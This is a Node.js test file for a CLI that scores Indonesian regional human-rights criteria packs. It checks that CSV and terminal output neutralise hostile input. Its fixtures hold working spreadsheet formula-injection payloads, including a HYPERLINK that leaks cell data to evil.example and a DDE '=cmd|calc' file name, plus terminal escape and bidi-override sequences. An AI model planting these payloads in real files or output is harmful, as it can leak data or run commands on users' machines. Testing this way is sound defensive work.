// Output that cannot hurt the reader: CSV cells that cannot start a spreadsheet formula and keep
// every row whole; terminal text with no raw control or bidi character; table columns cut on a
// character, not a byte; one CSV table per pack.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import {
  assertSafeCsv, assertSafeTerminal, packSha, referencePack, root, run, template, workDir, writeIn,
} from './lib.mjs';

const work = workDir('safe');

// Text a regency controls, made to attack a spreadsheet or a terminal.
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007',
  province: '+62 Jawa\r\nTengah\u0000\u202eHAM\u2066',
  code: '-33.01\u009b31m',
  kind: 'kabupaten',
};

function hostileAnswers(name = 'hostile.json') {
  const a = template('random', ['--seed', '11']);
  a.region = { ...a.region, ...HOSTILE };
  const first = Object.keys(a.answers)[0];
  a.answers[first].evidence = [{ id: 'perda', status: 'ready', reference: '@SUM(1+1)\u001b[2J\u0085\u200f' }];
  return writeIn(work, name, a);
}

const plain = () => writeIn(work, 'plain.json', template('random', ['--seed', '12', '--region', 'Kota Biasa']));

test('score --format csv: every row has the header\'s cells, no cell starts a formula, NUL and CR keep the row whole', () => {
  const r = run(['score', '--pack', referencePack, '--format', 'csv', hostileAnswers(), plain()]);
  assert.equal(r.status, 0, r.stderr);
  const rows = assertSafeCsv(r.stdout);
  assert.equal(rows.length, 3);
  const region = rows[1][rows[0].indexOf('region')];
  assert.ok(region.startsWith("'=HYPERLINK("), region);
  assert.ok(region.includes('\\x1b]8;;'), 'ESC shown escaped');
  const province = rows[1][rows[0].indexOf('province')];
  assert.ok(province.startsWith("'+62 Jawa\r\nTengah\\x00\\u202eHAM\\u2066"), JSON.stringify(province));
  assert.ok(rows[1][rows[0].indexOf('code')].startsWith("'-33.01\\u009b"));
  // Numbers stay numbers.
  assert.match(rows[1][rows[0].indexOf('total')], /^\d+\.\d\d$/);
  assert.match(rows[2][rows[0].indexOf('SP1_BANKUM')], /^\d+\.\d\d$/);
});

test('compare --format csv: the same rules', () => {
  const r = run(['compare', '--pack', referencePack, '--format', 'csv', hostileAnswers(), plain()]);
  assert.equal(r.status, 0, r.stderr);
  const rows = assertSafeCsv(r.stdout);
  assert.equal(rows.length, 3);
  assert.ok(rows.some((row) => row[rows[0].indexOf('region')].startsWith("'=HYPERLINK(")));
});

test('a file name that starts a formula is neutralised in the CSV too', () => {
  const file = writeIn(work, '=cmd|calc!A0.json', readFileSync(plain()));
  const rows = assertSafeCsv(run(['score', '--pack', referencePack, '--format', 'csv', file], { cwd: work }).stdout.toString());
  assert.ok(rows[1][0].endsWith('=cmd|calc!A0.json'));
  const rel = run(['score', '--pack', referencePack, '--format', 'csv', '=cmd|calc!A0.json'], { cwd: work });
  assert.equal(assertSafeCsv(rel.stdout)[1][0], "'=cmd|calc!A0.json");
});

test('score, explain, plan, gap, compare, validate: no raw control or bidi character reaches the terminal', () => {
  const file = hostileAnswers();
  const first = Object.keys(JSON.parse(readFileSync(file, 'utf8')).answers)[0];
  const runs = [
    ['score', '--pack', referencePack, file],
    ['score', '--pack', referencePack, file, plain()],
    ['explain', '--pack', referencePack, file, first],
    ['plan', '--pack', referencePack, file],
    ['gap', '--pack', referencePack, file],
    ['compare', '--pack', referencePack, file, plain()],
  ];
  for (const args of runs) {
    const r = run(args, { encoding: 'buffer' });
    assert.equal(r.status, 0, r.stderr.toString());
    const out = assertSafeTerminal(r.stdout, args.slice(0, 1).join(' '), { formFeed: args[0] === 'plan' });
    assertSafeTerminal(r.stderr, `${args[0]} stderr`);
    // Where the hostile text is shown whole (not cut to a table column), it is there, escaped.
    if (args.length === 4 && args[0] !== 'gap') assert.ok(out.includes('\\x1b'), `${args[0]}: the text is shown, escaped`);
  }
  // A pack with control characters in its title and notice (escaped in the JSON, so valid).
  const pack = JSON.parse(readFileSync(referencePack, 'utf8'));
  pack.title.id = 'Paket \u001b[31mMERAH\u001b[0m \u202eLAH';
  pack.notice.id = 'Catatan\u0007\u009d0;judul\u009c';
  const v = run(['validate', writeIn(work, 'pack-ctl.json', pack)], { encoding: 'buffer' });
  assert.equal(v.status, 0, v.stderr.toString());
  assert.match(assertSafeTerminal(v.stdout, 'validate'), /Paket \\x1b\[31mMERAH/);
});

test('messages quoting input: an unknown key, the explain argument and a file name are shown escaped', () => {
  const a = template('blank');
  a.answers['X\u001b]0;judul\u0007'] = { value: true };
  const bad = writeIn(work, 'unknown-key.json', a);
  const r = run(['score', '--pack', referencePack, bad], { encoding: 'buffer' });
  assert.equal(r.status, 1);
  assert.match(assertSafeTerminal(r.stderr, 'unknown key'), /X\\x1b\]0;judul\\x07/);
  const e = run(['explain', '--pack', referencePack, plain(), 'KES\u001b[2J\u202e'], { encoding: 'buffer' });
  assert.equal(e.status, 1);
  assertSafeTerminal(e.stderr, 'explain argument');
  const named = writeIn(work, 'nama\u001b[31m\u202e.json', 'bukan json');
  const n = run(['score', '--pack', referencePack, named], { encoding: 'buffer' });
  assert.equal(n.status, 1);
  assert.match(assertSafeTerminal(n.stderr, 'file name'), /nama\\x1b\[31m\\u202e\.json/);
  const u = run(['frobnicate\u001b[2J'], { encoding: 'buffer' });
  assert.equal(u.status, 2);
  assertSafeTerminal(u.stderr, 'unknown command');
});

test('bytes that are not UTF-8 in a file name are shown escaped', () => {
  const name = Buffer.concat([Buffer.from(join(work, 'caf')), Buffer.from([0xe9, 0x9b]), Buffer.from('.json')]);
  const r = run(['score', '--pack', referencePack, name.toString('latin1')], { encoding: 'buffer' });
  // node passes the argument as UTF-8 of the latin1 text; either way the output must be clean.
  assert.equal(r.status, 1);
  assertSafeTerminal(r.stderr, 'file name');
});

test('table columns are cut on a character (display width), never inside a UTF-8 sequence', () => {
  const long = 'Kabupaten Ölüdeniz Ŝĉĥ 北京市朝阳区 Ngada Manggarai Barat Timur';
  const a = writeIn(work, 'wide.json', template('random', ['--seed', '3', '--region', long]));
  const r = run(['score', '--pack', referencePack, a, plain()], { encoding: 'buffer' });
  assert.equal(r.status, 0, r.stderr.toString());
  const text = assertSafeTerminal(r.stdout, 'score table');
  assert.ok(!text.includes('\ufffd'));
  const row = text.split('\n').find((l) => l.includes('wide.json'));
  assert.ok(row.includes('…'), row);
  // The score column starts at the same screen column in every row.
  const width = (s) => [...s].reduce((w, ch) => w + (/[\u1100-\u115f\u2e80-\ua4cf\uac00-\ud7a3\uf900-\ufaff\uff00-\uff60]/u.test(ch) ? 2 : 1), 0);
  const rows = text.split('\n').filter((l) => l.includes('.json'));
  const at = rows.map((l) => width(l.slice(0, l.search(/\d+\.\d\d/))));
  assert.equal(new Set(at).size, 1, rows.join('\n'));
  const c = run(['compare', '--pack', referencePack, a, plain()], { encoding: 'buffer' });
  assertSafeTerminal(c.stdout, 'compare table');
});

test('score --format csv over files of two packs is refused (exit 2), nothing half-written', () => {
  const roundingPack = join(root, 'tests/fixtures/rounding-pack.json');
  const v = JSON.parse(readFileSync(join(root, 'tests/vectors/rounding-1.005.json'), 'utf8'));
  v.answers.pack.sha256 = packSha(roundingPack);
  const other = writeIn(work, 'other-pack.json', v.answers);
  const dir = workDir('packs');
  writeIn(dir, 'kkpham-22-2021.json', readFileSync(referencePack));
  writeIn(dir, 'rounding-test.json', readFileSync(roundingPack));
  const env = { ...process.env, KKPHAM_CRITERIA_DIR: dir };
  const r = run(['score', '--format', 'csv', plain(), other], { env });
  assert.equal(r.status, 2, r.stderr);
  assert.equal(r.stdout, '');
  assert.match(r.stderr, /paket yang berbeda/);
  assert.match(r.stderr, /different packs/);
  // The text table and JSON still take both.
  assert.equal(run(['score', plain(), other], { env }).status, 0);
  assert.equal(JSON.parse(run(['score', '--format', 'json', plain(), other], { env }).stdout).length, 2);
  rmSync(dir, { recursive: true, force: true });
});

test.after(() => rmSync(work, { recursive: true, force: true }));
